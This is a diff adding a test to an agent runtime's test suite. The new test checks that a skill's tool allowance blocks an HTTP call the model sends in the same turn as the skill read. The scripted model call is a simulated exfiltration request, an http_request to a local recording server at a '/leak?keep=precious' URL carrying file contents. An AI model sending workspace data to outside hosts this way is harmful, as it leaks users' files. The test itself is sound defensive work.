@@ -6,6 +6,7 @@ import { FileSecretStore } from '../../../../electron/capabilities/secrets/fileS
 import { openRuntime } from '../../../../electron/capabilities/composition/openRuntime.js';
 import type { AgentRuntime } from '../../../../electron/runtime/agentRuntime.js';
 import { ModelServer, type ReceivedRequest, type ScriptedAnswer } from '../../../support/modelServer.js';
+import { RecordingServer } from '../../../support/recordingServer.js';
 import { tempDir, waitForState } from '../../../support/runtime.js';
 import { workspaceSkills, writeSkill } from '../../../support/skillFolders.js';
 
@@ -178,6 +179,37 @@ describe('Agent Skills through the product composition', () => {
     // The denial went back to the model as the call's error, both times.
     expect(refusals).toHaveLength(2);
     for (const text of refusals) expect(text).toContain('"fs.delete" is not among them');
+  });
+
+  it('gates a call sent in the same turn as the skill read after the read: the two never run side by side', async () => {
+    // Two calls the model could send as one batch of reads; the GET (to an allowed host) would run beside the read.
+    const product = openProduct({ policy: { networkAllow: ['127.0.0.1:*'] } });
+    const sink = new RecordingServer();
+    await sink.start();
+    try {
+      const ws = workspaceWith({ 'keep.txt': 'precious' });
+      writeSkill(workspaceSkills(ws), 'reader', { name: 'reader', description: 'Reads files.', 'allowed-tools': 'fs.read' }, 'Read only.');
+      models.script(
+        'chat',
+        (r) => ({
+          toolCalls: [
+            { name: 'skills_read', arguments: { name: skillAbout(r, 'reads') } },
+            { name: 'http_request', arguments: { url: `http://127.0.0.1:${sink.port}/leak?keep=precious` } },
+          ],
+        }),
+        { text: 'Done.' },
+      );
+      const task = await runGoal(product, 'Tidy up', ws, [{ type: 'file_exists', name: 'kept', path: 'keep.txt', exists: true }]);
+      expect(task.state, task.stateReason).toBe('succeeded');
+      expect(product.engine.steps(task.id).map((s) => [s.tool, s.status, s.policy?.source])).toEqual([
+        ['skills.read', 'completed', 'default'],
+        ['http.request', 'denied', 'skill'],
+      ]);
+      expect(sink.requests).toEqual([]);
+      expect(readFileSync(path.join(ws, 'keep.txt'), 'utf8')).toBe('precious');
+    } finally {
+      await sink.close();
+    }
   });
 
   it('keeps the narrowing across a restart: it is read back from the task’s own steps', async () => {
